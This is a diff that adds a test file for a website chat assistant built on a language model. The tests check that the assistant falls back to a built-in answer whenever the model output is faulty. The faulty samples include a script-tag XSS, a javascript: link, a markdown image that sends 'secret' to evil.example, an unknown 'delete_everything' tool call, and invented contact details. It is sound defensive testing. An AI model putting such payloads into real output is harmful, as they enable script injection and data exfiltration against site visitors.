@@ -1,0 +1,106 @@
+import { expect, test } from 'vitest'
+import { answerOf, ask, breakingOff, calling, fakeModel, refusing, saying, stalling } from '../testing.ts'
+
+const question = 'what are your hours'
+
+test('a model that cites what it was given is believed, and streams sentence by sentence', async () => {
+  const { withModel, bodies } = await fakeModel(
+    saying('We are open Monday to Friday 7 ', 'AM to 6 PM [1]. On Satur', 'day it is 8 AM to 2 PM [1].'),
+  )
+  const answer = await answerOf(withModel(), question)
+  expect(answer).toMatchObject({
+    by: 'model',
+    outcome: 'answer',
+    text: 'We are open Monday to Friday 7 AM to 6 PM. On Saturday it is 8 AM to 2 PM.',
+    passages: ['hours'],
+    sources: [{ title: 'Business hours', href: '/contact/sales' }],
+  })
+  expect(answer.pieces[0]).toBe('We are open Monday to Friday 7 AM to 6 PM. ')
+  expect(bodies).toHaveLength(1)
+  expect(bodies[0]?.match(/<passage number/g)).toHaveLength(5)
+})
+
+test('a form that the model opens is an offer beside the words of the site', async () => {
+  const forms = [{ path: '/quote/fuel', fields: ['volume'] }]
+  const input = { form: '/quote/fuel', answers: { volume: '300', admin: 'yes' } }
+  const { withModel } = await fakeModel(calling('open_form', JSON.stringify(input)))
+  const answer = await answerOf(withModel({ forms }), 'I need a quote for 300 gallons of diesel')
+  expect(answer).toMatchObject({ by: 'model', offer: { form: '/quote/fuel', answers: { volume: '300' } } })
+  expect(answer.offer).not.toHaveProperty('answers.admin')
+})
+
+test('a lead that the model proposes is an offer too', async () => {
+  const { withModel } = await fakeModel(
+    calling('propose_lead', JSON.stringify({ intent: 'talk_to_sales', message: 'Wants a contract.' })),
+  )
+  const answer = await answerOf(withModel(), 'do you offer fuel contracts')
+  expect(answer.offer).toEqual({ lead: { intent: 'talk_to_sales', message: 'Wants a contract.' } })
+})
+
+const cite = 'Monday to Friday 7 AM to 6 PM [1].'
+const faulty: [string, Parameters<typeof fakeModel>[0]][] = [
+  ['an unknown tool', calling('delete_everything', '{}')],
+  ['a tool with an input that is no JSON', calling('open_form', '{"form": ')],
+  ['a tool with an input that does not fit', calling('open_form', '{"form":"/evil","answers":{}}')],
+  ['a lead of an unknown kind', calling('propose_lead', '{"intent":"free_fuel","message":"x"}')],
+  ['status 500', refusing(500, 'application/json', '{"error":{"message":"broken"}}')],
+  ['status 429', refusing(429, 'application/json', '{"error":{"message":"slow down"}}')],
+  ['HTML instead of JSON', refusing(200, 'text/html', '<html><body>Welcome to the proxy</body></html>')],
+  ['nonsense in the stream', refusing(200, 'text/event-stream', 'data: {"choices": [}\n\n')],
+  ['an error within the stream', refusing(200, 'text/event-stream', 'data: {"error":{"message":"overloaded"}}\n\n')],
+  ['a hang before the first byte', () => {}],
+  ['a stall after the headers', stalling()],
+  ['a stall in the middle', stalling('We are open Monday to ')],
+  ['a dropped socket', breakingOff('socket', 'We are open Monday to ')],
+  ['half a stream', breakingOff('half', cite)],
+  ['one megabyte', saying(`${cite} `.repeat(30_000))],
+  ['one megabyte in one word', saying('a'.repeat(1_000_000))],
+  ['nothing at all', saying('')],
+  ['words that cite nothing', saying('We are open Monday to Friday.')],
+  ['a passage that there is none of', saying('We are open Monday [9].')],
+  ['a price of its own', saying('Diesel is $2.99 today [1].')],
+  ['a price in words', saying('Diesel is ninety cents today [1].')],
+  ['a telephone number of its own', saying('Call (800) 555-0199 [1].')],
+  ['an address of its own', saying('Write to sales@evil.example [1].')],
+  ['a script', saying('Open Monday [1]. <script>alert(1)</script>')],
+  ['a link', saying('See [our prices](javascript:alert(1)) [1].')],
+  ['a picture that calls home', saying('![x](https://evil.example/?q=secret) [1].')],
+  ['a bare address', saying('See www.evil.example [1].')],
+  ['NUL', saying('Open Monday\u0000 [1].')],
+  ['a refusal to answer', saying('NOT ANSWERED')],
+]
+
+test.each(faulty)('%s ends in the built-in answer within 4 seconds', { timeout: 8000 }, async (_name, reply) => {
+  const { withModel, faults } = await fakeModel(reply)
+  const assistant = withModel()
+  await answerOf(assistant, 'the tank is on fire')
+  const builtIn = await ask(question)
+  const late = new Promise<'late'>((resolve) => setTimeout(resolve, 4000, 'late'))
+  const answer = await Promise.race([answerOf(assistant, question), late])
+  expect(answer).toMatchObject({ text: builtIn.text, sources: builtIn.sources, by: 'built-in' })
+  expect(faults).toHaveLength(1)
+})
+
+test('after three faults the model is left alone for a minute', async () => {
+  const { withModel, bodies } = await fakeModel(refusing(500, 'text/plain', 'no'))
+  const assistant = withModel()
+  for (let turn = 0; turn < 5; turn++) expect(await answerOf(assistant, question)).toMatchObject({ by: 'built-in' })
+  expect(bodies).toHaveLength(3)
+})
+
+test('a visitor who leaves is no fault of the model', async () => {
+  const { withModel, faults } = await fakeModel(stalling('We are'))
+  const leaving = new AbortController()
+  setTimeout(() => leaving.abort(), 100)
+  const answer = await answerOf(withModel(), question, {}, { signal: leaving.signal })
+  expect(answer.by).toBe('built-in')
+  expect(faults).toEqual([])
+})
+
+test('emergencies, hand-over topics and strange matters never reach the model', async () => {
+  const { withModel, bodies } = await fakeModel(saying('Fine [1].'))
+  const assistant = withModel()
+  for (const text of ['the tank is on fire', 'are you hiring dispatchers', 'write me a poem about a horse'])
+    expect(await answerOf(assistant, text)).toMatchObject({ by: 'built-in' })
+  expect(bodies).toEqual([])
+})
